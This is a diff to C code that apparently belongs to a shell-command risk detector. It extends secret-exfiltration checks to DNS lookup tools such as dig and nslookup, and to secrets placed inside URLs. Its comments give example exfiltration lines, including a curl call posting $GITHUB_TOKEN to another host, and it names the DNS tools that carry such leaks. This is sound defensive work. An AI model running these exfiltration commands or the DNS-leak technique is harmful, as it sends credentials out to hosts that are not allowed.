@@ -206,6 +206,10 @@ network_sink(const struct risk_cmd *c)
 	return c->name[0] && risk_name_in(network_sinks, c->name);
 }
 
+/* Programs that look a name up: the name reaches whoever serves its domain. */
+static const char *const dns_tools[] = { "nslookup", "dig", "host", "drill", "ping", "ping6", "delv", "kdig",
+					 "resolvectl", NULL };
+
 /* curl -d "token=$GITHUB_TOKEN" https://elsewhere: a secret variable sent to a host not allowed. */
 static void
 secret_in_arguments(struct risk_state *st, const struct risk_cmd *c)
@@ -218,8 +222,13 @@ secret_in_arguments(struct risk_state *st, const struct risk_cmd *c)
 		const char *t = c->argv[i].text;
 		if (strstr(t, "://") && !url)
 			url = t;
-		else if (!sent && secret_var(t, var, sizeof(var)))
-			sent = var;
+		if (!sent && secret_var(t, var, sizeof(var)))
+			sent = var; /* in the URL itself too: https://host/?k=$TOKEN */
+	}
+	if (sent && risk_name_in(dns_tools, c->name)) {
+		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s sends %s in a name it looks up (DNS reaches any "
+			  "server)", c->name, sent);
+		return;
 	}
 	if (sent && url && risk_url_foreign(st, url))
 		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s sends %s to a host not in allowed_hosts: %s",
@@ -335,7 +344,7 @@ risk_secret_part(struct risk_state *st, const struct risk_cmd *part)
 		st->secret_pipe = NULL;
 	else if (st->secret_pipe && network_sink(&c))
 		risk_rule(st, GUARD_LEVEL_CRITICAL, GUARD_CLASS_READ, "%s sends %s over the network", c.name, st->secret_pipe);
-	if (network_sink(&c))
+	if (network_sink(&c) || risk_name_in(dns_tools, c.name))
 		secret_in_arguments(st, &c);
 	if (sends_out(&c))
 		env_in_arguments(st, &c);
